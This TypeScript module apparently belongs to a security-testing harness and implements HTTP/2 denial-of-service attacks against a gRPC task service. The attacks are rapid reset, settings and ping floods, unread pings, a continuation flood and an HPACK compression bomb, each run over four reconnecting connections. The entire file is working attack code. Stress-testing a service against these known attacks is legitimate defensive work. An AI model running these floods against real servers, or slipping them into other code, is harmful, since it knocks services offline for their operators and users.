/** Floods of frames of HTTP/2, each over four connections. */
import type { Socket } from 'node:net';
import { callHeaders, END_HEADERS, END_STREAM, FRAME, h2Connect, h2Frame, plainHeader, pour } from '../h2-frames.js';
import type { Attack } from '../scenario.js';

const AT_ONCE = 4;

/** Pours frames into connections, opening another one where one is closed. */
function flood(makeFrames: () => () => Buffer, reads = true): Attack {
  return async (target) => {
    let [poured, opened] = [0, 0];
    const sockets: Socket[] = [];
    target.atEnd(() => sockets.forEach((socket) => socket.destroy()));
    await Promise.all(
      Array.from({ length: AT_ONCE }, async () => {
        while (target.isOn()) {
          const socket = h2Connect(target.grpc, reads);
          sockets.push(socket);
          opened++;
          poured += await pour(socket, target.isOn, makeFrames());
          await new Promise((resolve) => setTimeout(resolve, 10));
        }
      }),
    );
    return `${poured} floods over ${opened} connections`;
  };
}

const PATH = '/taskdash.task.v1.TaskService/ListTasks';
const repeated = (frame: Buffer, times: number) => Buffer.concat(Array.from({ length: times }, () => frame));

/** Streams that are opened and reset at once. */
export const rapidReset = flood(() => {
  let stream = -1;
  const cancel = Buffer.from([0, 0, 0, 8]);
  return () => {
    const frames: Buffer[] = [];
    for (let n = 0; n < 100; n++) {
      stream += 2;
      frames.push(
        h2Frame(FRAME.headers, END_HEADERS, stream, callHeaders(PATH)),
        h2Frame(FRAME.reset, 0, stream, cancel),
      );
    }
    return Buffer.concat(frames);
  };
});

export const settingsFlood = flood(() => {
  const frames = repeated(h2Frame(FRAME.settings, 0, 0), 1_000);
  return () => frames;
});

export const pingFlood = flood(() => {
  const frames = repeated(h2Frame(FRAME.ping, 0, 0, Buffer.alloc(8)), 1_000);
  return () => frames;
});

/** Pings whose answers are never read. */
export const unreadPings = flood(() => {
  const frames = repeated(h2Frame(FRAME.ping, 0, 0, Buffer.alloc(8)), 1_000);
  return () => frames;
}, false);

/** Headers that never end. */
export const continuationFlood = flood(() => {
  const begin = h2Frame(FRAME.headers, END_STREAM, 1, callHeaders(PATH));
  const more = repeated(h2Frame(FRAME.continuation, 0, 1, plainHeader('x', 'y'.repeat(100))), 100);
  let isBegun = false;
  return () => {
    if (isBegun) return more;
    isBegun = true;
    return begin;
  };
});

/** A long header is named once, and then by one byte each time. */
export const hpackBomb = flood(() => {
  let stream = -1;
  const value = 'v'.repeat(3_000);
  const length = Buffer.from([0x7f, ...varint(value.length - 127)]);
  const named = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), length, Buffer.from(value)]);
  const again = Buffer.alloc(12_000, 0x80 | 62);
  return () => {
    stream += 2;
    const headers = Buffer.concat([callHeaders(PATH), ...(stream === 1 ? [named] : []), again]);
    return h2Frame(FRAME.headers, END_HEADERS | END_STREAM, stream, headers);
  };
});

function varint(value: number): number[] {
  return value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)];
}
